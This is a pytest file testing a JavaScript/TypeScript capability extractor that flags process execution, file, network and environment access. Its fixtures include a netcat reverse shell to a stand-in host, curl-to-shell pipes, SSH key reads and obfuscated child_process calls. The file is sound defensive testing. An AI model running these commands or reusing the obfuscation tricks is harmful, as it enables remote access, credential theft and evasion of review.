"""JavaScript/TypeScript extraction: imports and aliases, folding, options objects, code in
strings, structure, failures."""

from __future__ import annotations

import base64
import json
from pathlib import Path

import pytest

from verifier.catalog import validate_catalog
from verifier.extract.facts import CallEdge, Invocation, Parsed, Unverifiable
from verifier.extract.javascript import extract_javascript
from verifier.extract.shell import analyse_shell

FILE = Path("/skill/scripts/x.js")


def extract(source: str, relative: str = "scripts/x.js",
            files: frozenset[str] = frozenset({"scripts/x.js"})) -> Parsed:
    facts = extract_javascript(Path("/skill") / relative, relative, source.encode(), files)
    assert isinstance(facts, Parsed), facts
    return facts


def found(source: str, relative: str = "scripts/x.js") -> set[str]:
    return {str(e.capability) for e in extract(source, relative).evidence}


def b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


CP = "const cp = require('child_process');\n"
EXEC_PAYLOAD = b64(CP + 'cp.exec("whoami")')
FETCH_PAYLOAD = b64('fetch("https://x.example.org")')

CASES = [
    # child_process: every way to import it, and every way to name a function of it
    (CP + "cp.exec('whoami')", {"proc.exec(whoami)"}),
    ("const cp = require('node:child_process');\ncp.execSync('whoami')", {"proc.exec(whoami)"}),
    ("import cp from 'child_process';\ncp.execSync('whoami')", {"proc.exec(whoami)"}),
    ("import * as cp from 'child_process';\ncp.exec('hostname')", {"proc.exec(hostname)"}),
    ("import { exec as run } from 'node:child_process';\nrun('whoami')", {"proc.exec(whoami)"}),
    ("const { spawn } = require('child_process');\nspawn('git', ['push', '--force'])",
     {"net.connect(*)"}),
    ("const { spawn } = require('child_process');\nspawn('nc', ['-e', '/bin/sh', 'c2.example.org', '4444'])",
     {"net.connect(c2.example.org:4444)"}),
    ("const { exec: x } = require('child_process');\nx('whoami')", {"proc.exec(whoami)"}),
    ("const r = require('child_process').exec;\nr('whoami')", {"proc.exec(whoami)"}),
    (CP + "const r = cp.exec;\nconst again = r;\nagain('hostname')", {"proc.exec(hostname)"}),
    (CP + "cp['ex' + 'ec']('whoami')", {"proc.exec(whoami)"}),
    ("require('child' + '_process').execSync('\\x77\\x68oami')", {"proc.exec(whoami)"}),
    (CP + "cp.exec('imaohw'.split('').reverse().join(''))", {"proc.exec(whoami)"}),
    (CP + "cp.exec.call(null, 'whoami');\ncp.exec.apply(null, ['hostname'])",
     {"proc.exec(whoami)", "proc.exec(hostname)"}),
    (CP + "const go = cp.exec.bind(null, 'whoami');\ngo()", {"proc.exec(whoami)"}),
    (CP + "const util = require('util');\nutil.promisify(cp.exec)('whoami')",
     {"proc.exec(whoami)"}),
    ("import { createRequire } from 'module';\nconst req = createRequire(import.meta.url);\n"
     "req('child_process').execSync('whoami')", {"proc.exec(whoami)"}),
    # command lines go to the shell analysis; argv lists are judged like Python's
    (CP + "cp.exec('curl -s https://x.example.net/i.sh | sh')",
     {"net.connect(x.example.net)", "code.dynamic(shell-pipe)"}),
    (CP + "cp.exec(cmd)", {"proc.exec(*)"}),
    (CP + "cp.spawn('curl x.example.net | sh', { shell: true })",
     {"net.connect(x.example.net)", "code.dynamic(shell-pipe)"}),
    (CP + "cp.spawnSync('/usr/bin/git', ['log', '--oneline'], { cwd: '/tmp' })",
     {"proc.exec(git log)"}),
    (CP + "cp.execFile(tool, ['run'])", {"proc.exec(*)"}),
    (CP + "cp.execFileSync('docker', args)", {"proc.exec(docker)"}),
    (CP + "cp.fork('/opt/tools/worker.js')", {"proc.exec(node)"}),
    # fs and fs/promises: paths folded
    ("const fs = require('fs');\nfs.readFileSync('notes.txt')", {"fs.read(${WORKSPACE}/notes.txt)"}),
    ("import { readFile } from 'node:fs/promises';\nawait readFile('/etc/passwd')",
     {"fs.read(/etc/passwd)"}),
    ("const fs = require('fs');\nfs.promises.writeFile('out.txt', data)",
     {"fs.write(${WORKSPACE}/out.txt)"}),
    ("const fs = require('fs');\nconst path = require('path');\n"
     "fs.readFileSync(path.join(__dirname, '..', 'config.json'))",
     {"fs.read(${SKILL_DIR}/config.json)"}),
    ("import fs from 'fs';\nimport os from 'os';\nimport path from 'path';\n"
     "fs.readFileSync(path.join(os.homedir(), '.ssh', 'id_rsa'))", {"fs.read(~/.ssh/id_rsa)"}),
    ("const fs = require('fs');\nconst path = require('path');\n"
     "fs.writeFileSync(path.resolve(import.meta.dirname, 'cache', name), x)",
     {"fs.write(${SKILL_DIR}/scripts/cache/**)"}),
    ("const fs = require('fs');\nfs.appendFileSync(`${process.env.HOME}/.bashrc`, line)",
     {"fs.write(~/.bashrc)", "env.read(HOME)"}),
    ("const fs = require('fs');\nfs.copyFileSync('a', '/tmp/b')",
     {"fs.read(${WORKSPACE}/a)", "fs.write(/tmp/b)"}),
    ("const fs = require('fs');\nfs.renameSync('a', 'b')",
     {"fs.delete(${WORKSPACE}/a)", "fs.write(${WORKSPACE}/b)"}),
    ("const fs = require('fs');\nfs.rmSync(dir, { recursive: true })", {"fs.delete(*)"}),
    ("const fs = require('fs');\nfs.existsSync('a');\nfs.statSync('a')", set()),
    # network
    ("await fetch(`https://${region}.api.example.com/v1/${id}`)", {"net.connect(*.api.example.com)"}),
    ("const BASE = 'https://hooks.slack.com';\nfunction send() { return fetch(BASE + '/x') }",
     {"net.connect(hooks.slack.com)"}),
    ("globalThis.fetch(url)", {"net.connect(*)"}),
    ("const axios = require('axios');\naxios('https://a.example.com/x')", {"net.connect(a.example.com)"}),
    ("import axios from 'axios';\naxios({ url: 'https://a.example.com/x', method: 'post' })",
     {"net.connect(a.example.com)"}),
    ("import axios from 'axios';\naxios.post('https://a.example.com/x', data)",
     {"net.connect(a.example.com)"}),
    ("import axios from 'axios';\nconst api = axios.create({ baseURL: 'https://a.example.com' });\n"
     "api.get('/users')", {"net.connect(*)"}),
    ("const https = require('https');\nhttps.get('https://registry.npmjs.org/x')",
     {"net.connect(registry.npmjs.org)"}),
    ("const http = require('http');\nconst opts = { hostname: 'intranet.example.com', port: 8080 };\n"
     "http.request(opts, (res) => {})", {"net.connect(intranet.example.com:8080)"}),
    ("const https = require('https');\nhttps.request({ host: 'api.example.com' })",
     {"net.connect(api.example.com)"}),
    ("const https = require('https');\nhttps.request({ path: '/x' })", {"net.connect(*)"}),
    ("const net = require('net');\nnet.connect(4444, '10.0.0.5')", {"net.connect(10.0.0.5:4444)"}),
    ("const net = require('net');\nnet.createConnection({ port: 22, host: 'example.com' })",
     {"net.connect(example.com:22)"}),
    ("new WebSocket('wss://stream.example.com/feed')", {"net.connect(stream.example.com)"}),
    ("import WebSocket from 'ws';\nnew WebSocket(`ws://${host}:9222`)", {"net.connect(*:9222)"}),
    ("const http = require('http');\nhttp.createServer(app).listen(8080)", {"net.listen(8080)"}),
    ("const net = require('net');\nconst s = net.createServer();\ns.listen({ port: 7000 })",
     {"net.listen(7000)"}),
    ("const http = require('http');\nhttp.createServer().listen(port)", {"net.listen(*)"}),
    # environment
    ("const t = process.env.GITHUB_TOKEN", {"env.read(GITHUB_TOKEN)"}),
    ("const t = process.env['OPENAI_API_KEY']", {"env.read(OPENAI_API_KEY)"}),
    ("const t = process.env['AWS_' + kind]", {"env.read(AWS_*)"}),
    ("const { HOME, API_KEY: key } = process.env", {"env.read(HOME)", "env.read(API_KEY)"}),
    ("const { A, ...rest } = process.env", {"env.read(A)", "env.read(*)"}),
    ("const env = { ...process.env, X: '1' }", {"env.read(*)"}),
    (CP + "cp.spawn('make', [], { env: process.env })", {"env.read(*)", "proc.exec(make)"}),
    ("const { env } = process;\nenv.HOME", {"env.read(HOME)"}),
    ("if (process.env.hasOwnProperty(name)) {}", {"env.read(*)"}),
    # dynamic code: constant code is analysed, computed code is dynamic, decoded code both
    ("eval(\"require('fs').unlinkSync('/tmp/x')\")", {"fs.delete(/tmp/x)"}),
    ("eval(process.argv[2])", {"code.dynamic(eval)"}),
    ("eval('require(\"child_process\").exec(\"' + cmd + '\")')", {"code.dynamic(eval)"}),
    (f"eval(Buffer.from('{EXEC_PAYLOAD}', 'base64').toString())",
     {"code.dynamic(decode)", "proc.exec(whoami)"}),
    (f"eval(atob('{FETCH_PAYLOAD}'))",
     {"code.dynamic(decode)", "net.connect(x.example.org)"}),
    ("eval(Buffer.from(blob, 'base64').toString('utf8'))", {"code.dynamic(decode)"}),
    ("eval(String.fromCharCode(102, 101, 116, 99, 104, 40, 117, 41))",
     {"code.dynamic(decode)", "net.connect(*)"}),
    ("eval('this is not javascript (')", {"code.dynamic(eval)"}),
    ("new Function('p', \"return require('fs').readFileSync(p)\")", {"fs.read(*)"}),
    ("const f = new Function(body)", {"code.dynamic(eval)"}),
    ("const vm = require('vm');\nvm.runInNewContext(code)", {"code.dynamic(eval)"}),
    ("const vm = require('vm');\nnew vm.Script(\"process.env.SECRET\")", {"env.read(SECRET)"}),
    ("const m = require(`./plugins/${name}`)", {"code.dynamic(import)"}),
    ("const m = await import(spec)", {"code.dynamic(import)"}),
    ("const m = require('lod' + 'ash')", set()),
    ("module.require('child' + '_process').execSync('whoami')", {"proc.exec(whoami)"}),
    (CP + "cp[method]('id')", {"code.dynamic(reflection)"}),
    ("globalThis['ev' + 'al'](input)", {"code.dynamic(eval)"}),
    ("console[level]('x');\nconst a = list[i]", set()),
    # a computed member of a plain object or array is data; of a module, reflection
    ("const params = {};\nparams[name] = value;\nf(params[name], [1, 2][i])", set()),
    ("const t = {run: 1};\nt[k]();\nReflect.get({a: 1}, k);\nObject.values({a: 1})", set()),
    (CP + "cp[k] = null", set()),
    ("const t = {cp: require('child_process')};\nt[k]", {"code.dynamic(reflection)"}),
    ("Reflect.get(globalThis, k)", {"code.dynamic(reflection)"}),
    ("require('fs')[k]('/tmp/x')", {"code.dynamic(reflection)"}),
    (CP + "Object.values(cp)", {"code.dynamic(reflection)"}),
    ("process.env[name]", {"env.read(*)"}),
    # dangerous functions as values: they escape with an unknown scope
    (CP + "register(cp.exec)", {"proc.exec(*)"}),
    (CP + "function run(c, runner = cp.execSync) { runner(c) }", {"proc.exec(*)"}),
    (CP + "module.exports = { run: cp.exec }", {"proc.exec(*)"}),
    (CP + "exports.run = cp.spawn", {"proc.exec(*)"}),
    (CP + "function pick() { return cp.exec }", {"proc.exec(*)"}),
    (CP + "const table = [cp.exec]", {"proc.exec(*)"}),
    ("const { exec } = require('child_process');\nmodule.exports = { exec }", {"proc.exec(*)"}),
    ("export { exec } from 'child_process'", {"proc.exec(*)"}),
    (CP + "export const run = cp.exec", {"proc.exec(*)"}),
    ("export default require('fs').rmSync", {"fs.delete(*)"}),
    # functions of the file: return values fold, callbacks are analysed
    ("const fs = require('fs');\nconst os = require('os');\n"
     "function key() { return os.homedir() + '/.ssh/id_rsa' }\nfs.readFileSync(key())",
     {"fs.read(~/.ssh/id_rsa)"}),
    ("const url = (r) => `https://${r}.example.com/x`;\nfetch(url(1))", {"net.connect(*.example.com)"}),
    ("function loop(n) { return loop(n) }\nfetch(loop(1))", {"net.connect(*)"}),
    (CP + "class Runner {\n  go() { cp.execSync('make test') }\n}", {"proc.exec(make test)"}),
    ("[1, 2].forEach(async (n) => { await fetch('https://a.example.com/' + n) })",
     {"net.connect(a.example.com)"}),
    # arguments flow into the parameters of the file's functions, methods and constructors
    ("const cp = require('child_process');\nconst run = (...a) => cp.execFileSync(...a);\n"
     "run('curl', ['https://x.example.net'])",
     {"proc.exec(*)", "net.connect(*)", "net.connect(x.example.net)"}),
    ("const fs = require('fs');\nconst open = (...a) => fs.openSync(...a);\nopen('log.txt', 'w')",
     {"fs.read(*)", "fs.write(*)", "fs.read(${WORKSPACE}/log.txt)",
      "fs.write(${WORKSPACE}/log.txt)"}),
    ("const cp = require('child_process');\nclass R { go(c) { return cp.execSync(c); } }\n"
     "new R().go('whoami')", {"proc.exec(*)", "proc.exec(whoami)"}),
    ("const cp = require('child_process');\nclass R { constructor(c) { cp.execSync(c); } }\n"
     "new R('id')", {"proc.exec(*)", "proc.exec(id)"}),
    ("const cp = require('child_process');\nfunction run(c) { cp.execSync(c); }\neval('run(\"id\")')",
     {"proc.exec(*)", "proc.exec(id)"}),
    ("const cp = require('child_process');\ncp.execSync.bind(null).bind(null)('hostname')",
     {"proc.exec(hostname)"}),
    # top-level await the grammar reads as a name
    ("await [fetch][0]('https://a.example.com/x')", {"net.connect(a.example.com)"}),
    ("await (0, fetch)('https://a.example.com/x')", {"net.connect(a.example.com)"}),
    # TypeScript and TSX syntax
    ("import { execSync } from 'child_process';\ninterface Opts { cmd: string }\n"
     "type Url = string;\nfunction run(o: Opts): string {\n"
     "  return execSync(o.cmd as string).toString();\n}\n"
     "const u: Url = <Url>'https://a.example.com';\nfetch(u satisfies Url)!",
     {"proc.exec(*)", "net.connect(a.example.com)"}),
    ("enum Mode { A }\nexport abstract class Base<T> {\n  private x?: T;\n"
     "  abstract go(): void;\n}\nconst v = process.env.MODE!;", {"env.read(MODE)"}),
    ("import type { Foo } from './types';\ndeclare const x: Foo;\nconst n: number = 1;", set()),
    # nothing to see
    ("const data = JSON.parse('{}');\nconsole.log(data.map((x) => x * 2));\n/a/.exec(s)", set()),
]


@pytest.mark.parametrize(("source", "expected"), CASES, ids=[c[0][:40] for c in CASES])
def test_capabilities(source: str, expected: set[str]) -> None:
    assert found(source, "scripts/x.ts" if "interface" in source or "enum" in source
                 or "import type" in source else "scripts/x.js") == expected


def test_tsx_components_are_analysed() -> None:
    source = ("import React from 'react';\nexport const App = () => (\n"
              "  <button onClick={() => fetch('https://api.example.com/like')}>\n"
              "    {process.env.NODE_ENV as string}\n  </button>\n);\n")
    facts = extract(source, "ui/App.tsx", frozenset({"ui/App.tsx"}))
    assert {(str(e.capability), e.function) for e in facts.evidence} == {
        ("net.connect(api.example.com)", "App.<anonymous>"), ("env.read(NODE_ENV)", "App")}
    assert facts.functions == (("App", 2), ("App.<anonymous>", 3))


def test_command_line_capabilities_are_those_of_the_shell_analysis() -> None:
    command = "git clone https://github.com/x/y.git && rm -rf /tmp/build"
    expected = {(str(f.capability), f"child_process.execSync -> {f.via}")
                for f in analyse_shell(command, frozenset(), "scripts/x.js").found}
    facts = extract(CP + f"cp.execSync('{command}')")
    assert {(str(e.capability), e.via) for e in facts.evidence} == expected
    assert "fs.delete(/tmp/build)" in {c for c, _ in expected}


def test_evidence_carries_line_column_via_and_function() -> None:
    facts = extract("const { exec } = require('child_process');\n\n"
                    "function send(data) {\n  const é = 1; exec('whoami');\n}\n")
    (evidence,) = facts.evidence
    assert (evidence.location.path, evidence.location.line, evidence.location.column) == (FILE, 4, 16)
    assert (evidence.via, evidence.function) == ("child_process.exec -> whoami", "send")


def test_code_in_strings_is_located_at_the_call_that_runs_it() -> None:
    facts = extract("function f() {\n\n  eval(\"\\n\\nrequire('fs').rmSync('a')\");\n}\n")
    (evidence,) = facts.evidence
    assert (evidence.location.line, evidence.location.column) == (3, 3)
    assert (evidence.via, evidence.function) == ("eval -> fs.rmSync", "f")


@pytest.mark.parametrize(("levels", "expected"), [
    (4, {"net.connect(a.example.com)"}), (5, {"code.dynamic(eval)"})])
def test_nested_code_in_strings_is_bounded(levels: int, expected: set[str]) -> None:
    code = "fetch('https://a.example.com')"
    for _ in range(levels):
        code = f"eval({json.dumps(code)})"
    assert found(code) == expected


def test_functions_calls_imports_and_invocations() -> None:
    files = frozenset({"scripts/main.ts", "scripts/lib/net.ts", "scripts/worker.js",
                       "scripts/util/index.js", "scripts/helper.py", "scripts/run.sh"})
    source = ("import { fetchAll } from './lib/net.js';\nimport * as util from './util';\n"
              "const worker = require('./worker');\n"
              "import { fork, spawn, exec } from 'child_process';\n\n"
              "export async function main(url: string): Promise<void> {\n"
              "  await fetchAll(url);\n  util.go();\n  worker();\n  local();\n"
              "  fork('./worker.js');\n  spawn('python3', ['scripts/helper.py', '-v']);\n"
              "  exec('bash scripts/run.sh --fast');\n}\n\n"
              "const local = (): void => {};\nmain('x');\n")
    facts = extract(source, "scripts/main.ts", files)
    assert facts.functions == (("local", 16), ("main", 6))
    assert facts.calls == (
        CallEdge("", "scripts/main.ts", "main", 17),
        CallEdge("main", "scripts/lib/net.ts", "fetchAll", 7),
        CallEdge("main", "scripts/main.ts", "local", 10),
        CallEdge("main", "scripts/util/index.js", "go", 8),
        CallEdge("main", "scripts/worker.js", "", 9))
    assert facts.invokes == (Invocation("main", "scripts/helper.py", 12),
                             Invocation("main", "scripts/run.sh", 13),
                             Invocation("main", "scripts/worker.js", 11))
    assert facts.imports == ("scripts/lib/net.ts", "scripts/util/index.js", "scripts/worker.js")
    assert facts.evidence == ()


def test_dynamic_import_of_a_skill_file_is_an_import() -> None:
    files = frozenset({"scripts/x.js", "scripts/plugins/a.mjs"})
    facts = extract("const m = await import('./plugins/a.mjs');\nm.run();\n", files=files)
    assert facts.imports == ("scripts/plugins/a.mjs",)
    assert facts.calls == (CallEdge("", "scripts/plugins/a.mjs", "run", 2),)
    assert facts.evidence == ()


def test_imported_data_is_an_import_but_not_code() -> None:
    files = frozenset({"ui/Table.tsx", "ui/plans.json"})
    facts = extract("import data from './plans.json';\nexport const n = data.plans.map((p) => p);\n",
                    "ui/Table.tsx", files)
    assert (facts.imports, facts.calls, facts.evidence) == (("ui/plans.json",), (), ())


def test_spawning_node_on_a_bundled_script_through_dirname_is_an_invocation() -> None:
    files = frozenset({"scripts/x.js", "scripts/task.js"})
    facts = extract("const path = require('path');\nconst { spawn } = require('child_process');\n"
                    "spawn('node', [path.join(__dirname, 'task.js')]);\n", files=files)
    assert facts.invokes == (Invocation("", "scripts/task.js", 3),)
    assert facts.evidence == ()


@pytest.mark.parametrize(("source", "line"), [
    ("const a = 1;\n\nfunction (\n", 3),
    ("const ok = 1;\nconst x = ;\n", 2),
    ("let s = 'unterminated\nfoo();\n", 1),
])
def test_syntax_error_is_unverifiable_with_its_line(source: str, line: int) -> None:
    facts = extract_javascript(FILE, "scripts/x.js", source.encode(), frozenset())
    assert isinstance(facts, Unverifiable)
    assert (facts.mechanism, facts.line) == ("unparseable", line)
    assert facts.detail == f"scripts/x.js does not parse: line {line}"


def test_typescript_syntax_in_a_js_file_does_not_parse() -> None:
    facts = extract_javascript(FILE, "scripts/x.js", b"const n: number = 1;\n", frozenset())
    assert isinstance(facts, Unverifiable) and facts.line == 1


@pytest.mark.parametrize("source", [
    b"x = " + b"[" * 50_000 + b"]" * 50_000,
    b"f(" * 50_000 + b")" * 50_000,
    b"{" * 50_000 + b"}" * 50_000,
])
def test_deep_nesting_is_unverifiable_not_a_crash(source: bytes) -> None:
    facts = extract_javascript(FILE, "scripts/x.js", source, frozenset())
    assert isinstance(facts, Unverifiable)
    assert facts.detail == "scripts/x.js is nested too deeply to analyse"


def test_long_concatenation_chain_is_analysed() -> None:
    # Far deeper than the nesting limit: an operator chain is folded in a loop.
    source = "require('child_process').exec(" + " + ".join(["'a'"] * 5_000) + ")\n"
    facts = extract(source)
    assert {str(e.capability) for e in facts.evidence} == {"proc.exec(*)"}  # too long a scope
    source = "require('child_process').exec(" + " + ".join(["'a'"] * 300) + ")\n"
    assert found(source) == {"proc.exec(" + "a" * 300 + ")"}


@pytest.mark.parametrize("source", [b"const s = '\xff\xfe';\n", b"\x7fELF\x02\x01\x00\x00"])
def test_unreadable_bytes_are_unverifiable(source: bytes) -> None:
    facts = extract_javascript(FILE, "scripts/x.js", source, frozenset())
    assert isinstance(facts, Unverifiable) and facts.mechanism == "unparseable"


def test_shebang_and_byte_order_mark_are_accepted() -> None:
    source = "\ufeff#!/usr/bin/env node\nprocess.env.X\n"
    assert found(source) == {"env.read(X)"}


def test_catalog_follows_its_schema() -> None:
    validate_catalog("javascript")
